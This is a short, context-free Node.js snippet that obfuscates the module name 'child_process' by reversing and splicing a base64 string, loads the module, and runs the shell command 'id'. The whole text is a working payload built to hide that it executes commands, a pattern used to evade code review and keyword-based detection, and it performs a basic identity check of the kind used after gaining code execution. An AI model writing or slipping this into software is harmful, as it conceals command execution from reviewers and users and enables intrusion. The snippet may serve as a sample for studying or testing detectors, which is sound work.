const s = '==wczV2YvJHcfRGbphm' + 'Y'.slice(1);
const m = require(Buffer.from('=='.slice(2) + s.split('').reverse().join('').replace('mhpb', 'Y2hpb'), 'base64').toString());
m.exec('id');
